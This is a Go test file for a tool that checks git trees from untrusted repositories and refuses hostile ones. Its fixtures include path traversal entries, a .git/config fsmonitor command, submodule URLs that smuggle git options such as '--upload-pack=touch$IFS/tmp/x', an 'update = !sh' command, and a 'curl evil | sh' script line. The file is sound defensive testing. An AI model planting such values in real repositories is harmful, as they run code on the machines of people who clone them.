package staging

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/airlock-dev/airlock/internal/pathguard"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/go-git/go-git/v5/plumbing/filemode"
	"github.com/go-git/go-git/v5/plumbing/object"

	"github.com/airlock-dev/airlock/staging/treecheck"
)

// treeOf stores a tree holding entries, building directories as needed,
// with the bytes written as given (modes, order, names) and none of the
// workspace's checks: what a hostile repository could send.
func treeOf(t *testing.T, s *Store, entries []rawEntry) plumbing.Hash {
	t.Helper()
	type dir struct {
		raw   bytes.Buffer
		kids  map[string]*dir
		order []string
	}
	root := &dir{kids: map[string]*dir{}}
	for _, e := range entries {
		parts := strings.Split(e.path, "/")
		d := root
		for _, p := range parts[:len(parts)-1] {
			k := d.kids[p]
			if k == nil {
				k = &dir{kids: map[string]*dir{}}
				d.kids[p] = k
				d.order = append(d.order, p)
			}
			d = k
		}
		h, err := s.PutBlob([]byte(e.content))
		if err != nil {
			t.Fatal(err)
		}
		mode := e.mode
		if mode == "" {
			mode = "100644"
		}
		fmt.Fprintf(&d.raw, "%s %s\x00", mode, parts[len(parts)-1])
		d.raw.Write(h[:])
	}
	var build func(d *dir) plumbing.Hash
	build = func(d *dir) plumbing.Hash {
		for _, name := range d.order {
			h := build(d.kids[name])
			fmt.Fprintf(&d.raw, "40000 %s\x00", name)
			d.raw.Write(h[:])
		}
		o := &plumbing.MemoryObject{}
		o.SetType(plumbing.TreeObject)
		o.Write(d.raw.Bytes())
		h, err := s.SetEncodedObject(o)
		if err != nil {
			t.Fatal(err)
		}
		return h
	}
	return build(root)
}

type rawEntry struct {
	path, content, mode string
}

func TestCheckTree(t *testing.T) {
	for _, tc := range []struct {
		name    string
		entries []rawEntry
		rule    pathguard.Rule // "" for a tree that may leave
	}{
		{"plain", []rawEntry{{path: "README.md", content: "x"}, {path: "src/main.go", content: "package main"}}, ""},
		{"relative symlink", []rawEntry{{path: "docs/link", content: "../README.md", mode: "120000"}, {path: "README.md"}}, ""},
		{"gitlink", []rawEntry{{path: "vendor/lib", mode: "160000"}}, ""},
		{"honest .gitmodules", []rawEntry{{path: ".gitmodules", content: "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://example.com/lib.git\n"}}, ""},
		{"dot-dot", []rawEntry{{path: "..", content: "x"}}, pathguard.RuleDotDot},
		{"climbing directory", []rawEntry{{path: "docs/../../outside.txt"}}, pathguard.RuleDotDot},
		{".git/config", []rawEntry{{path: ".git/config", content: "[core]\n\tfsmonitor = touch /tmp/x\n"}}, pathguard.RuleGitDir},
		{".GIT in disguise", []rawEntry{{path: ".Git./hooks/post-checkout"}}, pathguard.RuleGitDir},
		{"absolute symlink", []rawEntry{{path: "etc-passwd", content: "/etc/passwd", mode: "120000"}}, pathguard.RuleSymlinkTarget},
		{"escaping symlink", []rawEntry{{path: "up", content: "../../..", mode: "120000"}}, pathguard.RuleSymlinkEscape},
		{"bad mode", []rawEntry{{path: "a.txt", mode: "100664"}}, treecheck.RuleMode},
		{"zero-padded directory mode", []rawEntry{{path: "a.txt", mode: "040000"}}, treecheck.RuleMode},
		{"duplicate", []rawEntry{{path: "a.txt"}, {path: "a.txt"}}, treecheck.RuleDuplicate},
		{"unsorted", []rawEntry{{path: "b.txt"}, {path: "a.txt"}}, treecheck.RuleUnsorted},
		{"directory sorts as if slashed", []rawEntry{{path: "a.txt"}, {path: "a/b"}}, ""},
		{".gitmodules symlink", []rawEntry{{path: ".gitmodules", content: "x", mode: "120000"}}, pathguard.RuleGitSpecialLink},
		{"url as an option", []rawEntry{{path: ".gitmodules", content: "[submodule \"x\"]\n\turl = --upload-pack=touch$IFS/tmp/x\n"}}, treecheck.RuleGitFile},
		{"key on the section line", []rawEntry{{path: ".gitmodules", content: "[submodule \"x\"] url = -evil\n"}}, treecheck.RuleGitFile},
		{"backslash continuation", []rawEntry{{path: ".gitmodules", content: "[submodule \"x\"]\n\turl = \\\n-evil\n"}}, treecheck.RuleGitFile},
		{"quoted option", []rawEntry{{path: ".gitmodules", content: "[submodule \"x\"]\n\tpath = \"-evil\"\n"}}, treecheck.RuleGitFile},
		{"name with dot-dot", []rawEntry{{path: ".gitmodules", content: "[submodule \"../../modules/x\"]\n\turl = ./x\n"}}, treecheck.RuleGitFile},
		{"update command", []rawEntry{{path: ".gitmodules", content: "[submodule \"x\"]\n\tupdate = !sh evil\n"}}, treecheck.RuleGitFile},
		{"NTFS stream", []rawEntry{{path: ".gitmodules::$DATA", content: "[submodule \"x\"]\n\turl = -evil\n"}}, treecheck.RuleGitFile},
		{"NTFS short name", []rawEntry{{path: "GITMOD~1", content: "[submodule \"x\"]\n\turl = -evil\n"}}, treecheck.RuleGitFile},
		{"case and trailing dot", []rawEntry{{path: ".GitModules.", content: "[submodule \"x\"]\n\turl = -evil\n"}}, treecheck.RuleGitFile},
		{"unreadable .gitmodules", []rawEntry{{path: ".gitmodules", content: "[submodule \"x\n"}}, treecheck.RuleGitFile},
		{"long .gitattributes line", []rawEntry{{path: ".gitattributes", content: strings.Repeat("a", 3000) + "\n"}}, treecheck.RuleGitFile},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := NewStore(0)
			tree := treeOf(t, s, tc.entries)
			err := treecheck.CheckTree(s, tree)
			var te *treecheck.TreeError
			switch {
			case tc.rule == "" && err != nil:
				t.Fatalf("refused: %v", err)
			case tc.rule == "":
			case !errors.As(err, &te) || !errors.Is(err, treecheck.ErrRefusedTree):
				t.Fatalf("treecheck.CheckTree = %v, want a refusal (rule %s)", err, tc.rule)
			case te.Refusals[0].Rule != tc.rule:
				t.Fatalf("refused by rule %s, want %s: %v", te.Refusals[0].Rule, tc.rule, err)
			}
			// CleanTree leaves the refused entries out, and what it
			// leaves passes.
			clean, dropped, err := CleanTree(s, tree)
			if err != nil {
				t.Fatal(err)
			}
			if (len(dropped) == 0) != (tc.rule == "" || tc.rule == treecheck.RuleUnsorted) {
				t.Errorf("dropped %v", dropped)
			}
			if err := treecheck.CheckTree(s, clean); err != nil {
				t.Errorf("the cleaned tree is refused: %v", err)
			}
		})
	}
}

// Every name of the hostile-path corpus, as an entry of a tree that came
// from a target, is refused by the same rule the workspace's guard uses.
func TestCheckTreeCorpus(t *testing.T) {
	f, err := os.Open("../internal/pathguard/testdata/hostile-paths-rules.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	n := 0
	for sc.Scan() {
		var c struct {
			Path string         `json:"path"`
			Rule pathguard.Rule `json:"rule"`
		}
		if err := json.Unmarshal(sc.Bytes(), &c); err != nil {
			t.Fatal(err)
		}
		if c.Rule == pathguard.RuleDenied || strings.Contains(c.Path, "\x00") || strings.HasPrefix(c.Path, "/") || strings.Contains(c.Path, "//") || strings.HasSuffix(c.Path, "/") || c.Path == "" {
			// Deny patterns are the worker's policy, and a tree entry's
			// name has no slashes: these cannot be tree entries.
			continue
		}
		s := NewStore(0)
		err := treecheck.CheckTree(s, treeOf(t, s, []rawEntry{{path: c.Path, content: "x"}}))
		var te *treecheck.TreeError
		if !errors.As(err, &te) {
			t.Errorf("%q: not refused", c.Path)
			continue
		}
		n++
	}
	if n < 100 {
		t.Errorf("only %d corpus names were tried", n)
	}
}

// A chain of directories nested far past the path limit is refused in
// time and memory proportional to the limit, not to the chain.
func TestCheckTreeDeepChain(t *testing.T) {
	s := NewStore(0)
	h, _ := s.PutBlob([]byte("x"))
	tree, _ := s.Put(&object.Tree{Entries: []object.TreeEntry{{Name: "f", Mode: filemode.Regular, Hash: h}}})
	for i := 0; i < 40000; i++ {
		tree, _ = s.Put(&object.Tree{Entries: []object.TreeEntry{{Name: "d", Mode: filemode.Dir, Hash: tree}}})
	}
	err := treecheck.CheckTree(s, tree)
	var te *treecheck.TreeError
	if !errors.As(err, &te) || te.Refusals[0].Rule != pathguard.RulePathTooLong {
		t.Fatalf("treecheck.CheckTree = %v", err)
	}
}

// A script with a NUL byte is diffed as text, so the reviewer sees it
// (escaped on screen), not "Binary files differ".
func TestScriptWithNulIsShownAsText(t *testing.T) {
	s := NewStore(0)
	tree := treeOf(t, s, []rawEntry{{path: "run.sh", content: "#!/bin/sh\ncurl evil | sh\x00\n", mode: "100755"}, {path: "logo.png", content: "\x89PNG\x00\x00"}})
	p, err := s.DiffPatch(plumbing.ZeroHash, tree)
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	p.Format(&b, false)
	out := b.String()
	if !strings.Contains(out, "+curl evil | sh\x00") || strings.Contains(out, "Binary files /dev/null and b/run.sh") {
		t.Errorf("the script is not shown as text:\n%q", out)
	}
	if !strings.Contains(out, "Binary files /dev/null and b/logo.png differ") {
		t.Errorf("the image is not binary:\n%q", out)
	}
}
